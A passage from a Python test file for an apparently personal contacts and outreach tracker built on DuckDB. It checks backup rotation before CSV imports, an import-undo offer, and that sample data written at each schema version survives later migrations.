        report = importer.import_file(conn, data, filename=f"export-{n}.csv")
        assert report.added == 1
    automatic = [b.path for b in db.backup_files(db_path) if b.automatic]
    assert len(automatic) == db.BACKUPS_KEPT == 5
    assert db.list_backups(db_path) == [*automatic, mine]  # the user's own copy stays
    backups = automatic
    assert {backup.parent for backup in backups} == {db_path.parent / "backups"}
    offer = settings.undo_offer(conn)
    assert (offer.file_name, offer.backup) == ("export-6.csv", backups[0])
    copy = duckdb.connect(str(backups[0]), read_only=True)
    try:  # the newest backup is the data just before the last import: six people and mine
        assert copy.execute("SELECT count(*) FROM contacts").fetchall() == [(7,)]
    finally:
        copy.close()


# --- 7. Migrations: data written at each schema version survives every later one ----------


def _rows(conn) -> dict[str, tuple[list[str], list[tuple]]]:
    tables = conn.execute(
        "SELECT table_name FROM duckdb_tables() WHERE database_name = current_database()"
        " AND table_name <> 'migrations'"
    ).fetchall()
    found = {}
    for (table,) in tables:
        result = conn.execute(f'SELECT * FROM "{table}"')
        columns = [column[0] for column in result.description]
        found[table] = (columns, sorted(map(repr, result.fetchall())))
    return found


def _still_there(conn, earlier: dict[str, tuple[list[str], list[str]]]) -> list[str]:
    """Tables whose earlier rows (in the columns they had then) are not all still there."""
    # Moments shown in UTC, as they were written: db.connect shows them in the user's zone.
    conn.execute("SET TimeZone = 'UTC'")
    lost = []
    for table, (columns, rows) in earlier.items():
        now = conn.execute(f'SELECT {", ".join(columns)} FROM "{table}"').fetchall()
        if not set(rows) <= set(map(repr, now)):
            lost.append(table)
    return lost


def test_data_written_at_every_schema_version_survives_the_later_migrations(db_path):
    old = duckdb.connect(str(db_path))
    stages = [
        # schema 1: the whole first data model
        """
        INSERT INTO companies (id, name, match_key, industry, status) VALUES
            (7, 'Acme Inc.', 'acme', 'Health', 'target');
        INSERT INTO contacts (id, profile_key, first_name, last_name, company_id, notes) VALUES
            (3, 'https://www.linkedin.com/in/ana', 'Ana', 'Lee', 7, 'met at a fair'),
            (4, 'manual:bo', 'Bo', 'Ng', 7, '');
        UPDATE contacts SET referred_by = 3 WHERE id = 4;
        INSERT INTO interactions (id, contact_id, kind, occurred_at, subject) VALUES
            (5, 3, 'outreach', '2026-01-05 09:00', 'Coffee?');
        INSERT INTO meetings (id, contact_id, starts_at, status, notes) VALUES
            (6, 3, '2026-01-12 10:00+00', 'held', 'useful');
        INSERT INTO questions (text, category, need) VALUES ('Mine?', 'advice', 'company');
        INSERT INTO meeting_questions (meeting_id, question, answer) VALUES (6, 'Q?', 'A.');
        INSERT INTO templates (name, subject, body) VALUES ('Mine', 'Hi', 'Hello {first_name}');
        INSERT INTO import_batches (file_name, sha256, added) VALUES ('Connections.csv', 'ab', 1);
        INSERT INTO contact_changes (contact_id, field, old_value, new_value, batch_id) VALUES
            (3, 'position', 'PM', 'Lead PM', 1);
        UPDATE profile SET name = 'Me', focus = 'product design', time_zone = 'Europe/Oslo';
        INSERT INTO ruled_out_industries (industry, reason) VALUES ('Mining', 'not for me');
        """,
        # schema 2 (outreach): built-in templates, edited; snoozes and dismissals
        """
        UPDATE templates SET body = body || ' (edited)' WHERE builtin AND id = (
            SELECT min(id) FROM templates WHERE builtin);
        INSERT INTO due_item_states (item_key, snoozed_until, dismissed) VALUES
            ('follow_up:5', '2026-02-01', false), ('try_another:5', NULL, true);
        """,
        # schema 3 (meetings): the built-in question bank, one archived
        """
        UPDATE questions SET archived = true WHERE builtin AND id = (
            SELECT min(id) FROM questions WHERE builtin);
        """,
        # schema 4 (import undo)
        """
        INSERT INTO import_undo (batch_id, backup_file, fingerprint) VALUES (1, 'b.duckdb', 'f');
        """,
    ]
    written: dict = {}
    for version, sql in enumerate(stages, start=1):
        db.apply_migrations(old, upto=version)
        assert _still_there(old, written) == [], f"lost by migration {version}"
        old.execute(sql)
        written = _rows(old)
    old.close()
    assert len(stages) <= len(db.migrations())

    # 0007 rewords one sentence of our own built-in follow-up ("last week", whenever it was);
    # 0020 has it and our cold message ask for 20 minutes, where they asked for 15.
    columns, rows = written["templates"]
    written["templates"] = (
        columns,
        [
            row.replace("to you last week about", "to you on {last_written} about")
            .replace("a 15-minute call", "a 20-minute call")
            .replace("Following up: 15 minutes", "Following up: 20 minutes")
            .replace("have 15 minutes for a call", "have 20 minutes for a call")
            for row in rows
        ],
    )
    upgraded = db.connect(db_path)  # today's code: every migration not yet applied
    try:
        assert _still_there(upgraded, written) == []
        applied = upgraded.execute("SELECT list(version ORDER BY version) FROM migrations")
        assert applied.fetchall()[0][0] == [m.version for m in db.migrations()]
        assert upgraded.execute("SELECT count(*) FROM templates WHERE builtin").fetchall() == [
            (5,)
        ]  # seeds are not added twice (the fifth, for someone known, came with 0013)
        assert upgraded.execute(
            "SELECT stage FROM contact_stages ORDER BY contact_id"
        ).fetchall() == [
            (4,),
            (0,),
        ]
    finally:
        upgraded.close()
